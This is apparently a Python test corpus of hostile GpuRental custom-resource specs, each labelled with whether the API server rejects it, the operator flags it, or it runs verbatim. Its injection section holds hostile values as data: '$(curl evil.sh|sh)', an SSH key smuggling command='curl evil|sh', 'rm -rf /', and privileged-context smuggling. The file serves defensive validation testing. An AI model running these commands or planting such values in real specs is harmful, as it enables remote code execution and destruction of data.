"""A corpus of hostile GpuRental specs, each with what must happen to it.

`Case.expect` is one of:
- "reject": the API server refuses it at admission (the CRD schema) and the message names
  `field`;
- "condition": it is stored, and the operator says why it cannot run in a condition whose
  message names `field` (or the offending value), and starts nothing;
- "runs": it is a legal spec whose strings only look dangerous (shell, YAML, RTL marks are data
  to the container, never interpreted by the operator): it runs, and the pod carries the
  strings verbatim.
Specs are merged over BASE (a key set to DROP is removed); `raw` replaces the whole body's spec.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

DROP = object()
BASE: dict[str, Any] = {"offer": "rtx4090", "image": "busybox:1.36", "gpus": 1,
                        "storage": {"size": "1Gi"}}
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostile"


@dataclass
class Case:
    id: str
    expect: str  # reject | condition | runs
    field: str  # named in the rejection or condition message
    spec: dict[str, Any] = field(default_factory=dict)
    name: str | None = None  # metadata.name, when the name itself is the attack
    raw: Any = DROP  # the whole spec, when its shape is the attack

    def body_spec(self) -> Any:
        if self.raw is not DROP:
            return self.raw
        merged = {**BASE, **self.spec}
        return {k: v for k, v in merged.items() if v is not DROP}


CASES = [
    # --- wrong types ------------------------------------------------------------------------
    Case("gpus-string", "reject", "spec.gpus", {"gpus": "two"}),
    Case("gpus-float", "reject", "spec.gpus", {"gpus": 1.5}),
    Case("gpus-bool", "reject", "spec.gpus", {"gpus": True}),
    Case("gpus-numeric-string", "reject", "spec.gpus", {"gpus": "1"}),
    Case("offer-number", "reject", "spec.offer", {"offer": 4090}),
    Case("image-list", "reject", "spec.image", {"image": ["busybox"]}),
    Case("command-string", "reject", "spec.command", {"command": "sleep infinity"}),
    Case("command-numbers", "reject", "spec.command", {"command": [1, 2]}),
    Case("sshkeys-string", "reject", "spec.sshKeys", {"sshKeys": KEY}),
    Case("state-lowercase", "reject", "spec.state", {"state": "running"}),
    Case("state-unknown", "reject", "spec.state", {"state": "Deleted"}),
    Case("autorenew-yes", "reject", "spec.autoRenew", {"autoRenew": "yes"}),
    Case("storage-string", "reject", "spec.storage", {"storage": "50Gi"}),
    Case("env-map", "reject", "spec.env", {"env": {"A": "b"}}),
    Case("spec-missing", "reject", "spec", raw=None),
    Case("spec-string", "reject", "spec", raw="offer: rtx4090"),
    Case("offer-missing", "reject", "spec.offer", {"offer": DROP}),
    Case("image-missing", "reject", "spec.image", {"image": DROP}),
    # --- negative and huge GPU counts -------------------------------------------------------
    Case("gpus-zero", "reject", "spec.gpus", {"gpus": 0}),
    Case("gpus-negative", "reject", "spec.gpus", {"gpus": -1}),
    Case("gpus-over-schema", "reject", "spec.gpus", {"gpus": 1025}),
    Case("gpus-astronomic", "reject", "spec.gpus", {"gpus": 10**30}),
    Case("gpus-over-offer", "condition", "spec.gpus", {"gpus": 5}),
    Case("gpus-over-cluster", "condition", "spec.gpus", {"gpus": 1024}),
    # --- giant strings ----------------------------------------------------------------------
    Case("image-100k", "reject", "spec.image", {"image": "a" * 100_000}),
    Case("offer-300", "reject", "spec.offer", {"offer": "a" * 300}),
    Case("command-arg-5k", "reject", "spec.command", {"command": ["x" * 5000]}),
    Case("sshkeys-33", "reject", "spec.sshKeys", {"sshKeys": [KEY] * 33}),
    Case("env-value-40k", "reject", "spec.env", {"env": [{"name": "A", "value": "v" * 40_000}]}),
    Case("name-300", "reject", "metadata.name", name="n" * 300),
    # --- bad durations ----------------------------------------------------------------------
    Case("duration-words", "reject", "spec.duration", {"duration": "4 hours"}),
    Case("duration-negative", "reject", "spec.duration", {"duration": "-1h"}),
    Case("duration-days", "reject", "spec.duration", {"duration": "1d"}),
    Case("duration-huge", "reject", "spec.duration", {"duration": "9999999999h"}),
    Case("duration-int", "reject", "spec.duration", {"duration": 3600}),
    Case("duration-unitless-tail", "reject", "spec.duration", {"duration": "1h30"}),
    Case("duration-zero", "condition", "spec.duration", {"duration": "0s"}),
    # --- bad quantities ---------------------------------------------------------------------
    Case("size-GB", "reject", "spec.storage.size", {"storage": {"size": "50GB"}}),
    Case("size-negative", "reject", "spec.storage.size", {"storage": {"size": "-5Gi"}}),
    Case("size-exponent", "reject", "spec.storage.size", {"storage": {"size": "1e9Gi"}}),
    Case("size-zero", "reject", "spec.storage.size", {"storage": {"size": "0Gi"}}),  # PVC: > 0
    Case("mountpath-traversal", "reject", "spec.storage.mountPath",
         {"storage": {"size": "1Gi", "mountPath": "../../etc"}}),
    Case("mountpath-root", "reject", "spec.storage.mountPath",
         {"storage": {"size": "1Gi", "mountPath": "/"}}),
    Case("storageclass-underscore", "reject", "spec.storage.storageClassName",
         {"storage": {"size": "1Gi", "storageClassName": "Fast_SSD"}}),
    # --- unknown offers and wallets ---------------------------------------------------------
    Case("offer-unknown", "condition", "h200-nowhere", {"offer": "h200-nowhere"}),
    Case("wallet-unknown", "condition", "ghost", {"wallet": "ghost"}),
    # --- shell and YAML injection -----------------------------------------------------------
    Case("image-semicolon", "reject", "spec.image", {"image": "busybox; rm -rf /"}),
    Case("image-subshell", "reject", "spec.image", {"image": "$(curl evil.sh|sh)"}),
    Case("image-backtick", "reject", "spec.image", {"image": "busybox`id`"}),
    Case("image-yaml-newline", "reject", "spec.image",
         {"image": "busybox\nsecurityContext: {privileged: true}"}),
    Case("sshkey-newline-smuggle", "reject", "spec.sshKeys",
         {"sshKeys": [f'{KEY} a@b\ncommand="curl evil|sh" {KEY}']}),
    Case("sshkey-options-prefix", "reject", "spec.sshKeys",
         {"sshKeys": [f'command="/bin/sh" {KEY}']}),
    Case("env-name-shell", "reject", "spec.env", {"env": [{"name": "A;rm -rf /", "value": "x"}]}),
    Case("command-shell-verbatim", "runs", "command",
         {"command": ["sh", "-c", "rm -rf / --no-preserve-root; echo $HOME `id`"]}),
    Case("command-yaml-verbatim", "runs", "command",
         {"command": ["sleep", "1\nsecurityContext: {privileged: true}\n---\nkind: Pod"]}),
    Case("args-subshell-verbatim", "runs", "args", {"args": ["--flag=$(whoami)", "'; DROP"]}),
    Case("sshkey-comment-subshell", "runs", "sshKeys", {"sshKeys": [f"{KEY} $(reboot)"]}),
    Case("unknown-field-privileged", "runs", "privileged",
         {"privileged": True, "securityContext": {"privileged": True}}),
    # --- unicode tricks ---------------------------------------------------------------------
    Case("offer-cyrillic-homoglyph", "reject", "spec.offer", {"offer": "rt\u0445" + "4090"}),
    Case("offer-zero-width", "reject", "spec.offer", {"offer": "rtx4090\u200b"}),
    Case("offer-fullwidth-digits", "reject", "spec.offer",
         {"offer": "rtx\uff14\uff10\uff19\uff10"}),
    Case("image-rtl-override", "reject", "spec.image", {"image": "busybox\u202e:1.36"}),
    Case("sshkey-cyrillic-comment", "reject", "spec.sshKeys",
         {"sshKeys": [f"{KEY} \u0430lice"]}),
    Case("wallet-zero-width", "reject", "spec.wallet", {"wallet": "default\u200b"}),
    Case("name-homoglyph", "reject", "metadata.name", name="r\u0435ntal"),
    Case("command-rtl-verbatim", "runs", "command", {"command": ["echo", "\u202egnp.exe"]}),
]
